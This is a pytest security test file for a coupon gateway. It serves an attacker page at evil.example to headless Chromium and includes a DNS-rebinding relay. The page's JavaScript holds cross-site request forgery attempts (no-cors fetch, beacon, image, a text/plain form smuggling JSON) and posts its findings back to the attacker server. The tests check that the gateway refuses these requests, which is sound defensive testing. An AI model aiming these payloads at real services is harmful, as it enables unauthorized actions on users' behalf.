"""Pages of other sites in a browser, Debian's Chromium: none of them issues a coupon or reads an
answer. `make test-outside` installs it; without it the tests are skipped."""

import contextlib
import http.server
import json
import shutil
import subprocess
import threading

import pytest

from stack import TRUST, dial

CHROMIUM = shutil.which("chromium")
pytestmark = pytest.mark.skipif(not CHROMIUM, reason="no chromium: make test-outside")

# Everything that a page can do without a library. Each attempt has a user of its own.
PAGE = """<!doctype html><iframe name="frame"></iframe><script>
const gateway = "GATEWAY", coupon = "COUPON", told = {};
const body = (user) => JSON.stringify({coupon, user});
const send = (user, options) => fetch(gateway + "/v1/issue",
    {method: "POST", body: body(user), ...options});
const json = {"Content-Type": "application/json"};
const issue = gateway + "/v1/issue?" + new URLSearchParams({coupon, user: "get"});
const blob = new Blob([body("blob")], {type: "text/plain"});
const attempts = {
    text: () => send("text"),
    json: () => send("json", {headers: json}),
    opaque: () => send("opaque", {mode: "no-cors"}),
    opaque_json: () => send("opaque_json", {mode: "no-cors", headers: json}),
    put: () => send("put", {method: "PUT", headers: json}),
    blob: () => send("blob", {mode: "no-cors", body: blob}),
    get: () => fetch(issue, {mode: "no-cors"}),
    read: () => fetch(gateway + "/v1/coupon?coupon=" + coupon),
    stats: () => fetch(gateway + "/v1/stats", {method: "POST"}),
    beacon: async () => ({type: "beacon", text: () => navigator.sendBeacon(
        gateway + "/v1/issue", body("beacon"))}),
    image: () => new Promise((done) => {
        const image = new Image();
        image.onload = image.onerror = (event) => done({type: event.type, text: () => ""});
        image.src = issue;
    }),
    form: () => new Promise((done) => {
        const form = document.createElement("form"), input = document.createElement("input");
        const whole = JSON.stringify({coupon, user: "form", key: "="});
        Object.assign(form, {method: "post", enctype: "text/plain", target: "frame",
            action: gateway + "/v1/issue"});
        input.name = whole.split("=")[0];
        input.value = whole.split("=")[1];
        form.append(input);
        document.body.append(form);
        frames.frame.frameElement.onload = () => done({type: "form", text: () => ""});
        form.submit();
    }),
};
(async () => {
    for (const [name, attempt] of Object.entries(attempts)) {
        try {
            const reply = await attempt();
            told[name] = [reply.type, reply.status || 0, await reply.text()];
        } catch (error) {
            told[name] = ["blocked", 0, ""];
        }
    }
    await fetch("/told", {method: "POST", body: JSON.stringify(told)});
})();
</script>"""


class Site(http.server.ThreadingHTTPServer):
    """The attacker's server. With `rebound`, an address of the gateway, everything under /v1/ goes
    there as it came: the name of the site means this address by then."""

    daemon_threads = True

    def __init__(self, coupon, gateway=None, rebound=None):
        super().__init__(("127.0.0.1", 0), Visit)
        self.rebound, self.told, self.done = rebound, None, threading.Event()
        self.requests = []  # that went to the gateway
        page = PAGE.replace("COUPON", coupon)
        self.page = page.replace("GATEWAY", gateway or f"http://evil.example:{self.server_port}")


class Visit(http.server.BaseHTTPRequestHandler):
    def log_message(self, *_):
        pass

    def reply(self, data):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def body(self):
        return self.rfile.read(int(self.headers.get("Content-Length", 0)))

    def pass_on(self):
        self.server.requests.append(self.command)
        del self.headers["Connection"]
        self.headers["Connection"] = "close"
        with dial(self.server.rebound, 10) as gateway:
            head = f"{self.requestline}\r\n{self.headers.as_string(maxheaderlen=0)}"
            gateway.sendall(head.replace("\r\n", "\n").replace("\n", "\r\n").encode() + self.body())
            while data := gateway.recv(65536):
                self.wfile.write(data)
        self.close_connection = True

    def do_GET(self):
        if self.server.rebound and self.path.startswith("/v1/"):
            self.pass_on()
        else:
            self.reply(self.server.page.encode())

    def do_POST(self):
        if self.server.rebound and self.path.startswith("/v1/"):
            self.pass_on()
            return
        if self.path == "/told":
            self.server.told = json.loads(self.body())
            self.server.done.set()
        self.reply(b"")

    do_PUT = do_POST


@contextlib.contextmanager
def browsed(site, tmp_path):
    """What the page has told about its attempts."""
    thread = threading.Thread(target=site.serve_forever)
    thread.start()
    options = (
        "--headless --no-sandbox --disable-gpu --disable-dev-shm-usage --no-first-run "
        "--disable-background-networking --disable-component-update --disable-sync "
        "--remote-debugging-port=0"
    ).split()
    rules = "--host-resolver-rules=MAP evil.example 127.0.0.1"
    if TRUST:  # a browser has its own list of authorities, and a page may not read what it warns of
        options.append("--ignore-certificate-errors")
    browser = subprocess.Popen(
        [CHROMIUM, *options, rules, f"--user-data-dir={tmp_path}/profile"]
        + [f"http://evil.example:{site.server_port}/"],
        stdout=subprocess.DEVNULL,
        stderr=(tmp_path / "chromium.log").open("w"),
    )
    try:
        assert site.done.wait(120), (tmp_path / "chromium.log").read_text()[-3000:]
        yield site.told
    finally:
        browser.terminate()
        browser.wait(30)
        site.shutdown()
        site.server_close()
        thread.join()


def nothing_is_issued(gateway, coupon):
    assert gateway.call("coupon", coupon=coupon)["stock"] == 100


def test_a_page_of_another_site(stack, gateway, make_coupon, tmp_path):
    coupon = make_coupon(100)
    with browsed(Site(coupon, gateway=stack.http("")), tmp_path) as told:
        assert {name: kind for name, (kind, _, _) in told.items()} == {
            "text": "blocked", "json": "blocked", "put": "blocked",
            "read": "blocked", "stats": "blocked",
            # Sent without its page being told what was answered.
            "opaque": "opaque", "opaque_json": "opaque", "blob": "opaque", "get": "opaque",
            "beacon": "beacon", "image": "error", "form": "form",
        }  # fmt: skip
        assert {text for _, _, text in told.values()} <= {"", True}
    nothing_is_issued(gateway, coupon)


def test_a_page_whose_name_means_the_gateway(stack, gateway, make_coupon, tmp_path):
    coupon = make_coupon(100)
    site = Site(coupon, rebound=stack.env["COUPON_HTTP_LISTEN"])
    with browsed(site, tmp_path) as told:
        read = {name: status for name, (kind, status, _) in told.items() if kind == "basic"}
        assert read == dict.fromkeys(
            ("text", "json", "put", "read", "stats", "opaque", "opaque_json", "blob", "get"), 421
        )
        assert "PUT" in site.requests and len(site.requests) >= len(told) - 1
    nothing_is_issued(gateway, coupon)


def test_a_page_of_a_listed_origin(stack, gateway_make, make_coupon, tmp_path):
    """It may send JSON and read the answers; without JSON its requests are refused as any."""
    coupon = make_coupon(100)
    site = Site(coupon)
    own = gateway_make(stack, COUPON_HTTP_ORIGINS=f"http://evil.example:{site.server_port}")
    site.page = PAGE.replace("COUPON", coupon).replace("GATEWAY", own.http(""))
    with browsed(site, tmp_path) as told:
        read = {name: status for name, (kind, status, _) in told.items() if kind == "cors"}
        assert read == {"text": 415, "json": 200, "read": 200, "stats": 200}
        assert told["put"][0] == "blocked"
        assert json.loads(told["read"][2])["stock"] == 99
